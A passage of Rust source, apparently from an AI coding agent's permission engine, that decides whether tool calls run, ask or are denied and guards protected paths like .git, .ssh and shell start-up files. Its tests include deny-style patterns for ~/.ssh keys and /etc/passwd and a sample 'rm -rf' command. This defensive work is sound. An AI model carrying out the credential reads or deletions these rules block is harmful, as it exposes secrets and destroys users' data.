        (Runs::Command(inner), _) => direct.is_some() || command_cover(rules, inner, cov),
        (Runs::Script(s), _) => direct.is_some() || script_cover(rules, s, cov),
    };
    if !ok && (direct.is_none() || cov.gaps.len() == before) {
        let shown = shell::truncate(&c.display(), 80);
        cov.gap(if c.substituted {
            format!("runs a command substitution: `{shown}`")
        } else {
            format!("runs `{shown}`, which no allow rule covers")
        });
    }
    ok
}

/// Whether an allow rule covers a command exactly as it will run: the name
/// as written (or its basename when it is a system directory's program).
fn direct_cover(rule: &Rule, lines: &[Vec<Tok>]) -> bool {
    let alts = match &rule.pattern {
        None => return true,
        Some(Pattern::Command(alts)) => alts,
        _ => return false,
    };
    lines.iter().any(|l| alts.iter().any(|a| covers(a, l)))
}

/// A command as allow rules see it: as written, quoted (and by basename
/// when it is a system directory's program).
fn allow_lines(c: &Command) -> Vec<Vec<Tok>> {
    let name = c.name().unwrap_or_default();
    let system = [
        "/bin/",
        "/usr/bin/",
        "/usr/local/bin/",
        "/sbin/",
        "/usr/sbin/",
    ]
    .iter()
    .any(|d| name.strip_prefix(d).is_some_and(|rest| !rest.contains('/')));
    let mut lines = vec![render(&c.words, false, true)];
    if system {
        lines.push(render(&c.words, true, true));
    }
    lines
}

/// Why a path is protected: candor always asks before anything writes
/// there (in every mode), because what is written there runs code or
/// changes what candor and the user's tools allow.
pub fn protected(path: &Path, home: Option<&Path>) -> Option<&'static str> {
    use crate::sandbox::protected::{DIRS, FILES, HOME_FILES};
    use std::path::Component;
    for c in path.components() {
        if let Component::Normal(name) = c
            && let Some((_, why)) = DIRS.iter().find(|(d, _)| name == *d)
        {
            return Some(why);
        }
    }
    let name = path.file_name()?.to_str()?;
    if let Some((_, why)) = FILES.iter().find(|(f, _)| *f == name) {
        return Some(why);
    }
    if let Some(h) = home
        && path.parent() == Some(h)
        && HOME_FILES.contains(&name)
    {
        return Some("a shell or tool start-up file in the home directory");
    }
    None
}

/// The Read deny rules, for the search tools: a file they deny is left
/// out of a Glob's list and a Grep's search of a directory that holds it.
#[derive(Debug, Clone, Default)]
pub struct ReadDenies(std::sync::Arc<Vec<Rule>>);

impl ReadDenies {
    pub fn of(rules: &Rules) -> ReadDenies {
        let list = rules
            .deny
            .iter()
            .filter(|r| r.tool == "Read" && matches!(r.pattern, Some(Pattern::Path(_))))
            .cloned()
            .collect();
        ReadDenies(std::sync::Arc::new(list))
    }

    /// Whether a rule denies reading this file (as found, or where it leads).
    pub fn denies(&self, path: &Path) -> bool {
        if self.0.is_empty() {
            return false;
        }
        let real = crate::tools::resolve_links(path);
        self.0
            .iter()
            .any(|r| r.matches_path(path) || r.matches_path(&real))
    }
}

/// The configured rules.
#[derive(Debug, Clone, Default)]
pub struct Rules {
    pub allow: Vec<Rule>,
    pub ask: Vec<Rule>,
    pub deny: Vec<Rule>,
    /// Deny rules that could not be read, by the tool they name (`*` when
    /// even that is unclear): calls of that tool always ask.
    pub broken_deny: Vec<(String, String)>,
    /// The user's home directory (protected start-up files, `~` in paths).
    pub home: Option<PathBuf>,
}

impl Rules {
    /// Records a deny rule that cannot be read: it fails closed.
    pub fn deny_unreadable(&mut self, text: &str) {
        let tool = Rule::tool_of(text).unwrap_or("*").to_owned();
        self.broken_deny.push((tool, text.to_owned()));
    }
}

/// What happens to a call after hooks, rules and mode.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Disposition {
    /// Runs without asking.
    Run { by: String },
    /// Asks the user.
    Ask { by: String, reason: Option<String> },
    /// Does not run.
    Deny { by: String, reason: String },
}

/// What the hooks concluded (see [`super::settle`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HookVerdict {
    pub verdict: Verdict,
    pub by: Option<String>,
    pub reason: Option<String>,
}

/// The call a decision is about.
#[derive(Debug, Clone, Copy)]
pub struct Subject<'a> {
    pub tool: &'a str,
    /// The effective arguments (paths absolute and resolved).
    pub args: &'a Value,
    /// The paths as they were written (made absolute, not resolved), when
    /// they differ from the arguments'.
    pub spelled: &'a [PathBuf],
    /// For an MCP tool: whether it runs without asking where reads do
    /// (candor reads it as read-only and closed-world,
    /// `tools::mcp::annotations`).
    pub mcp_read_only: Option<bool>,
    /// For an MCP tool: why candor reads it so (said when it asks).
    pub mcp_reading: Option<&'a str>,
    /// For an MCP tool: `mcp__<server>__<tool>` unsanitised, which deny and
    /// ask rules are checked on too (the name offered may be cut or
    /// suffixed).
    pub mcp_name: Option<&'a str>,
}

/// Decides a call, in this order: a denying hook; a deny rule; plan mode
/// for a tool that changes things; a protected path; a Bash line naming a
/// path a deny rule forbids; an ask rule; an asking hook; a deny rule that
/// cannot be read; bypassPermissions; an allowing hook; an allow rule or a
/// session grant; then the tool's default (reads inside the project run,
/// edits inside the project run in acceptEdits, everything else asks).
pub fn decide(
    call: Subject<'_>,
    hooks: &HookVerdict,
    mode: Mode,
    rules: &Rules,
    grants: &[Rule],
    root: &Path,
) -> Disposition {
    let known = Tool::from_name(call.tool);
    let d = Deciding {
        tool: call.tool,
        known,
        read_only: call
            .mcp_read_only
            .unwrap_or_else(|| known.is_some_and(Tool::is_read_only)),
        mcp: call.mcp_read_only.is_some(),
        reading: call.mcp_reading,
        also: call.mcp_name.filter(|n| *n != call.tool),
        view: view(call.tool, call.args, call.spelled, root),
        scope: Scope::new(root, rules.home.as_deref()),
        hooks,
        mode,
        rules,
        grants,
    };
    d.denied()
        .or_else(|| d.asked())
        .or_else(|| d.let_through())
        .unwrap_or_else(|| match d.allowed() {
            Ok(run) => run,
            Err(partial) => d.by_default(partial),
        })
}

/// One call being decided, and what it is decided with.
struct Deciding<'a> {
    tool: &'a str,
    known: Option<Tool>,
    read_only: bool,
    /// An MCP tool (it says itself whether it changes things).
    mcp: bool,
    /// Why candor reads the MCP tool as it does.
    reading: Option<&'a str>,
    /// The MCP tool's unsanitised name, when it differs from `tool`.
    also: Option<&'a str>,
    view: View,
    scope: Scope<'a>,
    hooks: &'a HookVerdict,
    mode: Mode,
    rules: &'a Rules,
    grants: &'a [Rule],
}

impl Deciding<'_> {
    /// `: <why candor reads the MCP tool so>`, or nothing.
    fn reading_said(&self) -> String {
        self.reading
            .map(|r| format!("; this one: {r}"))
            .unwrap_or_default()
    }

    /// `hook:<id>` of the hook that decided.
    fn hook(&self) -> String {
        format!("hook:{}", self.hooks.by.clone().unwrap_or_default())
    }

    /// A denying hook, a deny rule, or plan mode for a tool that changes
    /// things.
    fn denied(&self) -> Option<Disposition> {
        if self.hooks.verdict == Verdict::Deny {
            return Some(Disposition::Deny {
                by: self.hook(),
                reason: self
                    .hooks
                    .reason
                    .clone()
                    .unwrap_or_else(|| "a hook blocked this call".into()),
            });
        }
        if let Some(rule) = any_match(&self.rules.deny, self.tool, &self.view).or_else(|| {
            self.also
                .and_then(|n| any_match(&self.rules.deny, n, &self.view))
        }) {
            let why = match &self.view {
                View::Bash { script, .. } if !script.all_unreadable().is_empty() => {
                    " (candor cannot read the whole command, and the rule's command may be in it)"
                }
                View::Bash { script, .. } if !script.all_opaque().is_empty() => {
                    " (part of the command is only known when it runs, and could be what the rule denies)"
                }
                _ => "",
            };
            return Some(Disposition::Deny {
                by: format!("rule:{rule}"),
                reason: format!("the permission rule {rule} denies this call{why}"),
            });
        }
        // Plan mode asks for an MCP tool not marked read-only (its server
        // may have marked it wrong either way), and refuses candor's own.
        (self.mode == Mode::Plan && !self.read_only && !self.mcp).then(|| Disposition::Deny {
            by: "mode:plan".into(),
            reason: "plan mode allows only tools that change nothing".into(),
        })
    }

    /// A protected path, a Bash line naming a path a deny rule forbids, an
    /// ask rule, an asking hook, or a deny rule that cannot be read.
    fn asked(&self) -> Option<Disposition> {
        let ask = |by: String, reason: Option<String>| Some(Disposition::Ask { by, reason });
        if self.mode == Mode::Plan && !self.read_only && self.mcp {
            return ask(
                "mode:plan".into(),
                Some(format!(
                    "plan mode asks before an MCP tool candor does not read as read-only and closed-world{}",
                    self.reading_said()
                )),
            );
        }
        if let Some(reason) = protected_write(self.tool, &self.view, &self.scope) {
            return ask("protected".into(), Some(reason));
        }
        if let View::Bash { script, .. } = &self.view
            && let Some((word, rule)) = names_denied_path(script, &self.rules.deny, &self.scope)
        {
            let reason = match word {
                None => format!(
                    "the command runs code candor cannot see, which may name a path the permission rule {rule} denies"
                ),
                Some(word) => {
                    format!("the command names `{word}`, which the permission rule {rule} denies")
                }
            };
            return ask(format!("rule:{rule}"), Some(reason));
        }
        if let Some(rule) = any_match(&self.rules.ask, self.tool, &self.view).or_else(|| {
            self.also
                .and_then(|n| any_match(&self.rules.ask, n, &self.view))
        }) {
            return ask(
                format!("rule:{rule}"),
                Some(format!("the permission rule {rule} asks for this call")),
            );
        }
        if self.hooks.verdict == Verdict::Ask {
            return ask(self.hook(), self.hooks.reason.clone());
        }
        let (tool, known) = (self.tool, self.known);
        let (_, text) = self.rules.broken_deny.iter().find(|(t, _)| {
            t == "*"
                || t == tool
                || (t == "Edit" && known.is_some_and(Tool::edits_files))
                || (t == "Read" && matches!(tool, "Glob" | "Grep"))
        })?;
        ask(
            format!("rule:{text}"),
            Some(format!(
                "the deny rule {text} cannot be read, so candor asks before every call it might have denied"
            )),
        )
    }

    /// bypassPermissions, or an allowing hook.
    fn let_through(&self) -> Option<Disposition> {
        if self.mode == Mode::BypassPermissions {
            return Some(Disposition::Run {
                by: "mode:bypassPermissions".into(),
            });
        }
        (self.hooks.verdict == Verdict::Allow).then(|| Disposition::Run { by: self.hook() })
    }

    /// An allow rule or a session grant that covers the call; else why a
    /// rule covered only part of a command, if one did.
    fn allowed(&self) -> Result<Disposition, Option<String>> {
        let run = |by: String| Ok(Disposition::Run { by });
        let tool = self.tool;
        match &self.view {
            View::Bash { script, line, .. } => self.allowed_command(script, line),
            View::Paths { targets, .. } => {
                let covers = |r: &&Rule| {
                    r.names(tool)
                        && !targets.is_empty()
                        && targets.iter().all(|p| r.matches_path(p))
                };
                if let Some(rule) = self.rules.allow.iter().find(covers) {
                    return run(format!("rule:{rule}"));
                }
                match self.grants.iter().find(covers) {
                    Some(rule) => run(format!("grant:{rule}")),
                    None => Err(None),
                }
            }
            View::Other => match self
                .rules
                .allow
                .iter()
                .find(|r| r.names(tool) && r.pattern.is_none())
            {
                Some(rule) => run(format!("rule:{rule}")),
                None => match self
                    .grants
                    .iter()
                    .find(|r| r.names(tool) && r.pattern.is_none())
                {
                    Some(rule) => run(format!("grant:{rule}")),
                    None => Err(None),
                },
            },
        }
    }

    /// [`allowed`](Self::allowed) for a Bash line: allow rules that cover
    /// every command in it, or a grant of exactly this line.
    fn allowed_command(&self, script: &Script, line: &str) -> Result<Disposition, Option<String>> {
        let cov = bash_cover(&self.rules.allow, script, &self.scope);
        if cov.gaps.is_empty()
            && let Some(rule) = cov.by
        {
            return Ok(Disposition::Run {
                by: format!("rule:{rule}"),
            });
        }
        if let Some(g) = self.grants.iter().find(|g| {
            g.tool == "Bash" && matches!(&g.pattern, Some(Pattern::ExactCommand(c)) if c == line)
        }) && script.all_opaque().is_empty()
            && !script.all_assigned().iter().any(|n| risky_variable(n))
        {
            return Ok(Disposition::Run {
                by: format!("grant:{g}"),
            });
        }
        if let Some(rule) = cov.by {
            Err(Some(format!(
                "the permission rule {rule} covers part of this command, but it also {}",
                cov.gaps.join("; it also ")
            )))
        } else {
            Err(cov
                .gaps
                .iter()
                .find(|g| g.starts_with("candor cannot read"))
                .map(|gap| format!("commands ask before they run, and {gap}")))
        }
    }

    /// The tool's default: reads inside the project run, edits inside the
    /// project run in acceptEdits, everything else asks (`partial`: why a
    /// rule covered only part of the command).
    fn by_default(&self, partial: Option<String>) -> Disposition {
        // Tools without paths (a plan, a background shell's output) are
        // inside by definition; a path is inside only if it is as written
        // and as it resolves.
        let scope = &self.scope;
        let (inside, escapes) = match &self.view {
            View::Paths { all, targets } => (
                all.iter().all(|p| scope.inside(p)),
                targets.iter().any(|p| !scope.inside(p)) && all.iter().any(|p| scope.inside(p)),
            ),
            _ => (true, false),
        };
        let edits = self.known.is_some_and(Tool::edits_files);
        if self.read_only && inside {
            return Disposition::Run {
                by: "default".into(),
            };
        }
        if self.mode == Mode::AcceptEdits && edits && inside {
            return Disposition::Run {
                by: "mode:acceptEdits".into(),
            };
        }
        let reason = if let Some(p) = partial {
            p
        } else if escapes {
            "the path leads outside the project through a symbolic link".to_owned()
        } else if !inside {
            "the path is outside the project".to_owned()
        } else if edits {
            "edits ask before they change a file (acceptEdits mode lets edits inside the project run)"
                .to_owned()
        } else if self.mcp {
            format!(
                "MCP tools ask before they run unless a server you configured marks them read-only and closed-world{} (an allow rule such as {}, or \"Always allow\", lets it run)",
                self.reading_said(),
                self.tool
            )
        } else {
            "commands ask before they run (an allow rule, or a session grant from \"Always allow\", lets them run)"
                .to_owned()
        };
        Disposition::Ask {
            by: "default".into(),
            reason: Some(reason),
        }
    }
}

/// Why a call that writes is about a protected path.
fn protected_write(tool: &str, view: &View, scope: &Scope<'_>) -> Option<String> {
    match view {
        View::Paths { all, .. } if Tool::from_name(tool).is_some_and(Tool::edits_files) => {
            all.iter().find_map(|p| {
                protected(p, scope.home).map(|why| {
                    format!(
                        "{} is a protected path ({why}); candor always asks before changing it",
                        p.display()
                    )
                })
            })
        }
        View::Bash { script, line, .. } => {
            let dirs = script_dirs(script, scope);
            // A write whose target is only known at run time, in a line
            // that spells a protected name (`F=.git/hooks/x; echo > $F`).
            let mut dynamic: Vec<&shell::Word> = script
                .all_redirects()
                .into_iter()
                .filter(|r| r.writes && r.target.text().is_none())
                .map(|r| &r.target)
                .collect();
            for c in script.all_commands() {
                if c.basename().is_some_and(|n| WRITERS.contains(&n.as_str())) {
                    dynamic.extend(c.words.iter().skip(1).filter(|w| w.text().is_none()));
                }
            }
            if let Some(w) = dynamic.first()
                && let Some(name) = PROTECTED_NAMES.iter().find(|n| line.contains(*n))
            {
                return Some(format!(
                    "the command writes to `{}`, known only when it runs, and the command names `{name}`, a protected path; candor always asks before changing it",
                    w.display()
                ));
            }
            // `git config` writes `.git/config` (or `~/.gitconfig`), where a
            // setting (`core.fsmonitor`, `core.pager`) runs code later.
            for c in script.all_commands() {
                if c.basename().as_deref() == Some("git") && git_config_write(&c.words[1..]) {
                    return Some(
                        "the command changes git's configuration (`git config`), where settings run commands later; candor always asks before changing it"
                            .to_owned(),
                    );
                }
            }
            // What a target known only at run time could be, on disk
            // (`.gi?/config`).
            for w in &dynamic {
                for p in expand_on_disk(w, scope) {
                    if let Some(why) = protected(&p, scope.home) {
                        return Some(format!(
                            "the command may change `{}`, a protected path ({why}); candor always asks before changing it",
                            p.display()
                        ));
                    }
                }
            }
            // Redirections, and the arguments of commands that write files.
            let mut targets: Vec<String> = script
                .all_redirects()
                .into_iter()
                .filter(|r| r.writes)
                .filter_map(|r| r.target.text())
                .collect();
            for c in script.all_commands() {
                if c.basename().is_some_and(|n| WRITERS.contains(&n.as_str())) {
                    for w in c.words.iter().skip(1).filter_map(shell::Word::text) {
                        // `of=FILE`, `--target-directory=DIR`
                        if let Some((_, value)) = w.split_once('=') {
                            targets.push(value.to_owned());
                        }
                        // `-t.git/hooks`: a short option's attached value.
                        if let Some(value) = w
                            .strip_prefix("-t")
                            .filter(|v| !v.is_empty() && !w.starts_with("--"))
                        {
                            targets.push(value.to_owned());
                        }
                        if !w.starts_with('-') {
                            targets.push(w);
                        }
                    }
                }
            }
            let mut seen = std::collections::HashSet::new();
            targets.retain(|t| seen.insert(t.clone()));
            if targets.len() * dirs.len().max(1) > MAX_PATH_CHECKS {
                return Some(format!(
                    "the command writes to {} files after changing directory {} times, more than candor checks against protected paths",
                    targets.len(),
                    dirs.len()
                ));
            }
            targets
                .into_iter()
                .find_map(|t| {
                    scope.command_paths(&t, &dirs).into_iter().find_map(|p| {
                        protected(&p, scope.home).map(|why| {
                            format!(
                                "the command may change `{t}`, a protected path ({why}); candor always asks before changing it"
                            )
                        })
                    })
                })
        }
        _ => None,
    }
}

/// Whether git's arguments are a `git config` that may write a setting.
fn git_config_write(args: &[shell::Word]) -> bool {
    let mut i = 0;
    // Global options before the subcommand; those with a value skip it.
    while let Some(t) = args.get(i).and_then(shell::Word::as_lit) {
        if !t.starts_with('-') {
            break;
        }
        i += if matches!(t, "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace") {
            2
        } else {
            1
        };
    }
    match args.get(i).map(shell::Word::as_lit) {
        Some(Some("config")) => {}
        // A subcommand known only at run time could be `config`.
        Some(None) => return true,
        _ => return false,
    }
    let rest = &args[i + 1..];
    let reads = rest.iter().filter_map(shell::Word::as_lit).any(|t| {
        t.starts_with("--get")
            || t.starts_with("--list")
            || t == "-l"
            || t.starts_with("--show")
            || t == "get"
            || t == "list"
    });
    !reads
}

/// Names of protected places, as they appear in a command line.
const PROTECTED_NAMES: [&str; 13] = [
    ".git",
    ".claude",
    ".codex",
    ".candor",
    ".vscode",
    ".idea",
    ".husky",
    ".ssh",
    ".envrc",
    ".mcp.json",
    ".bashrc",
    ".zshrc",
    ".profile",
];

/// Commands that write, create or remove the files they name.
const WRITERS: [&str; 18] = [
    "cp", "mv", "tee", "ln", "install", "rsync", "touch", "mkdir", "truncate", "chmod", "chown",
    "patch", "rm", "rmdir", "unlink", "dd", "sed", "perl",
];

/// The static directories a line changes to, resolved.
fn script_dirs(script: &Script, scope: &Scope<'_>) -> Vec<PathBuf> {
    // Each `cd` may start from any earlier one (`cd sub && cd ../config`);
    // a target known only at run time is every directory it could name.
    let mut dirs: Vec<PathBuf> = Vec::new();
    for w in script.all_dirs() {
        let found: Vec<PathBuf> = match w.text() {
            Some(d) => scope.command_paths(&d, &dirs),
            None => {
                let mut any = expand_on_disk(w, scope);
                any.extend(scope.home.map(Path::to_owned));
                any
            }
        };
        for d in found {
            if dirs.len() >= MAX_DIRS {
                break;
            }
            if !dirs.contains(&d) {
                dirs.push(d);
            }
        }
    }
    dirs
}

/// How many directories `cd` may lead to before candor stops following.
const MAX_DIRS: usize = 32;
/// How many (path, directory) pairs a line's writes are checked over; past
/// that the line asks.
const MAX_PATH_CHECKS: usize = 4096;

/// A word of the line (an argument, an option's value or a redirection)
/// that names a path a path deny rule forbids.
fn names_denied_path<'r>(
    script: &Script,
    deny: &'r [Rule],
    scope: &Scope<'_>,
) -> Option<(Option<String>, &'r Rule)> {
    let path_rules: Vec<&Rule> = deny
        .iter()
        .filter(|r| {
            PATH_TOOLS.contains(&r.tool.as_str()) && matches!(r.pattern, Some(Pattern::Path(_)))
        })
        .collect();
    if path_rules.is_empty() {
        return None;
    }
    // Code candor cannot see, or cannot read, may name any path.
    if !script.all_unreadable().is_empty()
        || script
            .all_commands()
            .iter()
            .any(|c| matches!(c.runs, Runs::Unknown { anything: true, .. }))
    {
        return Some((None, path_rules[0]));
    }
    let dirs = script_dirs(script, scope);
    let mut words: Vec<String> = Vec::new();
    for c in script.all_commands() {
        for w in c.words.iter().skip(1).filter_map(shell::Word::text) {
            if let Some((_, value)) = w.split_once('=').filter(|_| w.starts_with('-')) {
                words.push(value.to_owned());
            } else if !w.starts_with('-') {
                words.push(w);
            }
        }
    }
    words.extend(
        script
            .all_redirects()
            .iter()
            .filter_map(|r| r.target.text()),
    );
    // Each distinct word once, in order.
    let mut seen = std::collections::HashSet::new();
    words.retain(|w| !w.is_empty() && seen.insert(w.clone()));
    if words.len() * (dirs.len() + 1) > MAX_PATH_CHECKS {
        return Some((None, path_rules[0]));
    }
    for w in &words {
        for p in scope.command_paths(w, &dirs) {
            if let Some(rule) = path_rules.iter().find(|r| r.matches_path(&p)) {
                return Some((Some(w.clone()), rule));
            }
        }
    }
    // Words known only at run time (`cat .e*`, `cat $F`): the files they
    // could name, as far as the disk shows them.
    let mut dynamic: Vec<&shell::Word> = Vec::new();
    for c in script.all_commands() {
        dynamic.extend(c.words.iter().skip(1).filter(|w| w.text().is_none()));
    }
    dynamic.extend(
        script
            .all_redirects()
            .into_iter()
            .map(|r| &r.target)
            .filter(|w| w.text().is_none()),
    );
    for w in dynamic {
        for p in expand_on_disk(w, scope) {
            if let Some(rule) = path_rules.iter().find(|r| r.matches_path(&p)) {
                return Some((Some(w.display()), rule));
            }
        }
    }
    None
}

/// The existing files a word with unknown parts could name, its unknown
/// parts taken as `*` (at most four directory levels below its known
/// start and 4096 entries looked at).
fn expand_on_disk(word: &shell::Word, scope: &Scope<'_>) -> Vec<PathBuf> {
    // The word as a star pattern (a star here may cross `/`: wider than
    // bash's globs, which only makes more words ask).
    let mut toks: Vec<Tok> = Vec::new();
    for p in &word.0 {
        match p {
            Piece::Lit(s) => toks.extend(s.chars().map(Tok::Ch)),
            Piece::Any => toks.push(Tok::Star),
        }
    }
    let text = spelled(&toks);
    let prefix: Vec<Tok> = match (text.strip_prefix("~/"), scope.home) {
        (Some(_), Some(h)) => {
            toks.drain(..2);
            format!("{}/", h.display()).chars().map(Tok::Ch).collect()
        }
        _ if text.starts_with('/') => Vec::new(),
        _ => format!("{}/", scope.root.display())
            .chars()
            .map(Tok::Ch)
            .collect(),
    };
    let pattern: Vec<Tok> = prefix.into_iter().chain(toks).collect();
    let text = spelled(&pattern);
    let matches = |path: &Path| {
        let chars: Vec<Tok> = path.to_string_lossy().chars().map(Tok::Ch).collect();
        covers(&pattern, &chars)
    };
    // The directory before the first unknown part.
    let star = pattern
        .iter()
        .position(|t| *t == Tok::Star)
        .map_or(text.len(), |i| {
            text.char_indices().nth(i).map_or(text.len(), |(b, _)| b)
        });
    let base = PathBuf::from(&text[..text[..star].rfind('/').map_or(0, |i| i + 1)]);
    let levels = text[star..].matches('/').count() + 1;
    let mut found = Vec::new();
    let mut budget = 4096usize;
    let mut frontier = vec![base];
    for _ in 0..levels.min(4) {
        let mut next = Vec::new();
        for dir in frontier {
            for (path, kind) in scope.entries(&dir).iter() {
                if budget == 0 {
                    return found;
                }
                budget -= 1;
                if matches(path) {
                    found.push(path.clone());
                }
                if *kind == Entry::Dir {
                    next.push(path.clone());
                }
            }
        }
        frontier = next;
    }
    found
}

/// The session grant an "allow always" answer creates: this tool with
/// exactly this command line or path (never a pattern). None when the
/// call cannot be granted: a line with parts candor cannot see, or a
/// protected path.
pub fn grant_for(tool: &str, args: &Value, root: &Path, home: Option<&Path>) -> Option<Rule> {
    let scope = Scope::new(root, home);
    let view = view(tool, args, &[], root);
    match &view {
        View::Bash { script, line, .. } => {
            if line.is_empty()
                || !script.all_opaque().is_empty()
                || script.all_assigned().iter().any(|n| risky_variable(n))
                || protected_write(tool, &view, &scope).is_some()
            {
                return None;
            }
            Rule::grant(&format!("Bash({line})")).ok()
        }
        View::Paths { targets, .. } => {
            let [path] = targets.as_slice() else {
                return None;
            };
            if Tool::from_name(tool).is_some_and(Tool::edits_files)
                && protected(path, home).is_some()
            {
                return None;
            }
            Rule::grant(&format!("{tool}({})", path.display())).ok()
        }
        // An MCP tool: the whole tool, as Claude Code's "don't ask again".
        View::Other if tool.starts_with("mcp__") => Rule::parse(tool, root, home).ok(),
        View::Other => None,
    }
}

/// The session grant to offer as "Always allow" for a call [`decide`]
/// asks about: [`grant_for`]'s, only where it would hold, asked of the same
/// procedure: with it added, the next identical call (the same hooks' say,
/// mode and rules) runs by it. Not under an ask rule, a protected path, an
/// asking hook, or anything else that asks before grants are looked at.
pub fn offer_grant(
    call: Subject<'_>,
    hooks: &HookVerdict,
    mode: Mode,
    rules: &Rules,
    grants: &[Rule],
    root: &Path,
) -> Option<Rule> {
    let grant = grant_for(call.tool, call.args, root, rules.home.as_deref())?;
    let mut with = grants.to_vec();
    with.push(grant.clone());
    match decide(call, hooks, mode, rules, &with, root) {
        Disposition::Run { by } if by.starts_with("grant:") => Some(grant),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mcp_rules_are_read_as_claude_code_reads_them() {
        let root = Path::new("/p");
        for text in [
            "mcp__github",
            "mcp__github__*",
            "mcp__my-server__do_it",
            "mcp__github__create_issue",
        ] {
            assert!(Rule::parse(text, root, None).is_ok(), "{text}");
        }
        let server = Rule::parse("mcp__github", root, None).unwrap();
        let star = Rule::parse("mcp__github__*", root, None).unwrap();
        let one = Rule::parse("mcp__github__create_issue", root, None).unwrap();
        assert!(server.names("mcp__github__create_issue") && star.names("mcp__github__x"));
        assert!(one.names("mcp__github__create_issue") && !one.names("mcp__github__close"));
        assert!(!server.names("mcp__githubx__a") && !star.names("mcp__githubx__a"));
        assert!(!server.names("Bash") && !star.names("mcp__gitlab__a"));
        assert!(Rule::parse("mcp__a b", root, None).is_err());
        assert!(Rule::parse("Bash-x", root, None).is_err());
    }
    use serde_json::json;

    fn rule(t: &str) -> Rule {
        Rule::parse(t, Path::new("/p"), Some(Path::new("/home/u"))).unwrap()
    }

    fn no_hooks() -> HookVerdict {
        HookVerdict {
            verdict: Verdict::Pass,
            by: None,
            reason: None,
        }
    }

    fn rules(allow: &[&str], ask: &[&str], deny: &[&str]) -> Rules {
        Rules {
            allow: allow.iter().map(|r| rule(r)).collect(),
            ask: ask.iter().map(|r| rule(r)).collect(),
            deny: deny.iter().map(|r| rule(r)).collect(),
            home: Some("/home/u".into()),
            ..Rules::default()
        }
    }

    fn decide_with(tool: &str, args: Value, rules: &Rules, mode: Mode) -> Disposition {
        let call = Subject {
            tool,
            args: &args,
            spelled: &[],
            mcp_read_only: None,
            mcp_reading: None,
            mcp_name: None,
        };
        decide(call, &no_hooks(), mode, rules, &[], Path::new("/p"))
    }

    /// An MCP call as settle puts it to `decide`.
    fn mcp_decide(
        exposed: &str,
        canonical: &str,
        read_only: bool,
        rules: &Rules,
        mode: Mode,
    ) -> Disposition {
        let args = json!({});
        let call = Subject {
            tool: exposed,
            args: &args,
            spelled: &[],
            mcp_read_only: Some(read_only),
            mcp_reading: None,
            mcp_name: Some(canonical),
        };
        decide(call, &no_hooks(), mode, rules, &[], Path::new("/p"))
    }

    #[test]
    fn mcp_calls_are_decided_on_what_the_tool_is() {
        let long = format!("mcp__srv__{}", "x".repeat(70));
        let exposed = "mcp__srv__xxxx_cut_1234abcd";
        // A deny rule written for the whole name holds on a cut one.
        let deny = rules(&[], &[], &[&long]);
        assert!(matches!(
            mcp_decide(exposed, &long, true, &deny, Mode::Default),
            Disposition::Deny { .. }
        ));
        let ask = rules(&[], &[&long], &[]);
        assert!(matches!(
            mcp_decide(exposed, &long, true, &ask, Mode::Default),
            Disposition::Ask { .. }
        ));
        let none = rules(&[], &[], &[]);
        // Not read-only (or reaching the world): asks, in plan mode too.
        assert!(matches!(
            mcp_decide("mcp__s__t", "mcp__s__t", false, &none, Mode::Default),
            Disposition::Ask { .. }
        ));
        assert!(matches!(
            mcp_decide("mcp__s__t", "mcp__s__t", false, &none, Mode::Plan),
            Disposition::Ask { .. }
        ));
        assert!(matches!(
            mcp_decide("mcp__s__t", "mcp__s__t", true, &none, Mode::Plan),
            Disposition::Run { .. }
        ));
        let allow = rules(&["mcp__s"], &[], &[]);
        assert!(matches!(
            mcp_decide("mcp__s__t", "mcp__s__t", false, &allow, Mode::Default),
            Disposition::Run { .. }
        ));
    }

    fn bash(command: &str, rules: &Rules, mode: Mode) -> Disposition {
        bash_full(command, &no_hooks(), mode, rules, &[], Path::new("/p"))
    }

    /// A Bash line decided with these hooks, grants and project root.
    fn bash_full(
        command: &str,
        hooks: &HookVerdict,
        mode: Mode,
        rules: &Rules,
        grants: &[Rule],
        root: &Path,
    ) -> Disposition {
        let args = json!({ "command": command });
        let call = Subject {
            tool: "Bash",
            args: &args,
            spelled: &[],
            mcp_read_only: None,
            mcp_reading: None,
            mcp_name: None,
        };
        decide(call, hooks, mode, rules, grants, root)
    }

    fn runs(d: &Disposition) -> bool {
        matches!(d, Disposition::Run { .. })
    }

    fn denied(d: &Disposition) -> bool {
        matches!(d, Disposition::Deny { .. })
    }

    #[test]
    fn patterns_are_read_as_shell_words() {
        let m = |r: &str, c: &str| {
            let script = shell::parse(c);
            let cmd = &script.commands[0];
            direct_cover(&rule(r), &allow_lines(cmd))
        };
        assert!(m("Bash(npm run test:*)", "npm run test --watch"));
        assert!(m("Bash(npm run test:*)", "npm run test"));
        assert!(!m("Bash(npm run test:*)", "npm run testing"));
        assert!(m("Bash(git *)", "git push origin main"));
        assert!(!m("Bash(git *)", "gitk"));
        assert!(m("Bash(ls)", "ls"));
        assert!(!m("Bash(ls)", "ls -la"));
        assert!(m("Bash(git commit -m \"wip\")", "git commit -m wip"));
        assert!(m(
            "Bash(git commit -m 'wip *')",
            "git commit -m \"wip on x\""
        ));
        assert!(!m("Bash(echo hello world)", "'echo hello' world"));
    }

    #[test]
    fn star_patterns_cover_and_overlap() {
        let t = |s: &str| -> Vec<Tok> {
            s.chars()
                .map(|c| if c == '*' { Tok::Star } else { Tok::Ch(c) })
                .collect()
        };
        assert!(covers(&t("rm *"), &t("rm -rf x")));
        assert!(covers(&t("ls *"), &t("ls *")));
        assert!(!covers(&t("ls -la"), &t("ls *")));
        assert!(overlaps(&t("rm -rf victim"), &t("* -rf victim")));
        assert!(overlaps(&t("a*"), &t("*b")));
        assert!(!overlaps(&t("rm *"), &t("ls *")));
    }

    #[test]
    fn path_rules_in_claude_codes_forms() {
        assert!(rule("Read(./secrets/**)").matches_path(Path::new("/p/secrets/a/b.txt")));
        assert!(rule("Read(src/*.rs)").matches_path(Path::new("/p/src/lib.rs")));
        assert!(!rule("Read(src/*.rs)").matches_path(Path::new("/p/src/a/lib.rs")));
        assert!(rule("Read(~/.ssh/**)").matches_path(Path::new("/home/u/.ssh/id")));
        assert!(rule("Read(//etc/*)").matches_path(Path::new("/etc/passwd")));
        assert!(rule("Edit(/src/**)").matches_path(Path::new("/p/src/a.ts")));
        assert!(!rule("Edit(/src/**)").matches_path(Path::new("/src/a.ts")));
